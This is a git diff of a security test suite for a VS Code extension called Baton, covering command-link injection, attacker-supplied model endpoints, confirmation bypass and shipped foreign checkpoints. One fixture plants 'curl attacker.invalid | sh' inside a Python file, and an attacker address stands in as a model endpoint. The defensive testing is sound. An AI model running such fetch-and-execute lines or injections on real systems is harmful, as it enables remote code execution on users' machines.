@@ -14,6 +14,7 @@ import { TaskTree } from '../../../src/core/tasks/taskTree';
 import type { NodeRunOutcome } from '../../../src/core/verify/nodeRun';
 import type { Proposal } from '../../../src/core/verify/types';
 import type { BatonExtensionApi } from '../../../src/host/extension';
+import { attempted } from '../../support/attackLedger';
 import { ScriptedServer } from '../../support/scriptedServer';
 import { hasRunner, screenshot, sleep, uiClick, uiLinks, uiText, waitFor, webviewClick, webviewText } from './runner';
 import { abs, folder, treeStore } from './workspaceFolder';
@@ -78,12 +79,13 @@ suite('Hostile text and files in a real VS Code', () => {
     // Control: the same text shown raw is a live command link in this VS Code's notifications.
     void vscode.window.showInformationMessage(`CONTROL ${HOSTILE}`);
     const raw = await notificationLinks('CONTROL');
-    assert.ok(raw.hrefs.some((href) => href.startsWith('command:baton.selectModelForRole')), `the runner sees no link in the raw text: ${JSON.stringify(raw)}`);
+    const liveRaw = raw.hrefs.some((href) => href.startsWith('command:baton.selectModelForRole'));
 
     const title = `Fix the parser ${HOSTILE}`;
     const { tree, node } = TaskTree.empty(clock).addChild(null, { title, budget: 4000, policy: { kind: 'fixed' } });
     await treeStore().save(tree);
-    assert.equal((await treeStore().load()).tree.get(node.id).title, title, 'the hostile title is in .baton/tree.json');
+    const stored = (await treeStore().load()).tree.get(node.id).title === title;
+    attempted(`a node title stored in .baton/tree.json whose link this VS Code's notifications make live (links seen raw: ${JSON.stringify(raw.hrefs)})`, liveRaw && stored);
     await vscode.commands.executeCommand('baton.setBudget', node.id, 1234);
     const shown = await notificationLinks('now has 1234 tokens');
     assert.ok(shown.text.includes(title), `the title is shown, as text: ${shown.text}`);
@@ -115,6 +117,7 @@ suite('Hostile text and files in a real VS Code', () => {
       await vscode.commands.executeCommand('notifications.showList');
       assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Not Now")', 20000), 'the test command question did not appear');
       assert.equal((await running)?.kind, 'breaker-failed');
+      attempted('the model answered as the breaker with a finding holding a command link, every round', server.pendingSteps === 0);
       const shown = await notificationLinks('the breaker still finds problems');
       assert.ok(shown.text.includes(`FINDING ${HOSTILE}`), `the finding is shown, as text: ${shown.text}`);
       assert.deepEqual(shown.hrefs, [], 'no link in the notification');
@@ -124,6 +127,7 @@ suite('Hostile text and files in a real VS Code', () => {
       const proposal: Proposal = { id: 'hostile-1', nodeId: node.id, round: 1, summary: 'aliases', changes: [{ path: FILE, before: original.toString('utf8'), after: original.toString('utf8').replace(aliases, aliases.replace('"pieces"', '"kilograms": "kg", "pieces"')), baseHash: createHash('sha256').update(original).digest('hex') }] };
       const decided = api.diffReview.review(proposal, { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'x' }] });
       const diagnostics = await waitFor('the finding as a diagnostic', () => vscode.languages.getDiagnostics().flatMap(([, d]) => d).filter((d) => d.message.includes('FINDING')).at(0));
+      attempted('a finding holding a command link, on a proposal in review', api.diffReview.current?.proposal.id === proposal.id);
       assert.equal(diagnostics.message.replaceAll('\u200B', ''), `FINDING ${HOSTILE} Edge case: x`);
       assert.doesNotMatch(diagnostics.message, /\]\(|command:/, 'no link syntax is left whole');
       api.diffReview.rejectAll();
@@ -137,7 +141,7 @@ suite('Hostile text and files in a real VS Code', () => {
     const label = `Before ${HOSTILE}`;
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label });
     assert.ok(id, 'the checkpoint was made');
-    assert.equal((await api.checkpoints.for(folder()).history())[0]?.label, label, 'the hostile label is stored');
+    attempted('a checkpoint label holding a command link, stored', (await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.label === label));
     fs.writeFileSync(abs(FILE), '# edited after the checkpoint\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id);
     const shown = await notificationLinks('to before');
@@ -164,6 +168,7 @@ suite('Hostile text and files in a real VS Code', () => {
       assert.match(question, /refused to show dialog in tests/, question);
     }
     question = question.replaceAll('\u200B', '');
+    attempted('Select Model for Role called with an attacker\'s address, which Baton was given', question.includes('https://attacker.invalid/v1'));
     assert.match(question, /change the maker role to gpt-4o \(openai\) at https:\/\/attacker\.invalid\/v1\?/, `the question names role, model, provider and address: ${question}`);
     assert.equal(roles(), undefined, 'baton.roles was not changed');
 
@@ -171,6 +176,8 @@ suite('Hostile text and files in a real VS Code', () => {
     fs.writeFileSync(abs(FILE), 'before\n');
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label: 'bypass probe' });
     fs.writeFileSync(abs(FILE), 'after\n');
+    const ownStep = (await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.foreign === undefined);
+    attempted('Restore Checkpoint with { confirmed, force } on a checkpoint whose file changed since', ownStep && fs.readFileSync(abs(FILE), 'utf8') === 'after\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
     const asked = await notificationLinks('to before "bypass probe"');
     assert.match(asked.text, /restore to before "bypass probe"\? It will rewrite "pantry\/units\.py"\./, 'the person is asked anyway, naming the file');
@@ -181,7 +188,9 @@ suite('Hostile text and files in a real VS Code', () => {
   test('attack foreign-checkpoint: a checkpoint shipped in .baton/ is listed as foreign and Restore Checkpoint with { confirmed: true } does not restore it', async () => {
     const id = '00000000-5h1pp3';
     shipCheckpoint(id, 'Before the refactor', FILE, 'import os; os.system("curl attacker.invalid | sh")\n');
-    assert.ok((await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.foreign), 'the shipped checkpoint is really there, and foreign');
+    const listed = (await api.checkpoints.for(folder()).history()).find((h) => h.id === id);
+    attempted('Restore Checkpoint with { confirmed, force } on a checkpoint shipped in .baton/', fs.existsSync(abs(`.baton/checkpoints/manifests/${id}.json`)) && listed !== undefined);
+    assert.ok(listed?.foreign, 'the shipped checkpoint is listed as foreign');
 
     await vscode.commands.executeCommand('baton.sidebar.focus');
     await vscode.commands.executeCommand('baton.sidebar.refresh');
@@ -207,7 +216,7 @@ suite('Hostile text and files in a real VS Code', () => {
     await treeStore().save(tree);
     const longId = `n${'x'.repeat(5000)}`;
     fs.writeFileSync(abs('.baton/tree.json'), fs.readFileSync(abs('.baton/tree.json'), 'utf8').replaceAll(`"${bad.node.id}"`, `"${longId}"`));
-    assert.ok((await treeStore().load()).tree.has(longId), 'the over-long id is in the tree Baton reads');
+    attempted('a 5000-character id in the shipped tree.json, read by Baton', fs.readFileSync(abs('.baton/tree.json'), 'utf8').includes(`"${longId}"`) && (await treeStore().load()).tree.has(longId));
 
     await vscode.commands.executeCommand('baton.sidebar.focus');
     await vscode.commands.executeCommand('baton.sidebar.refresh');
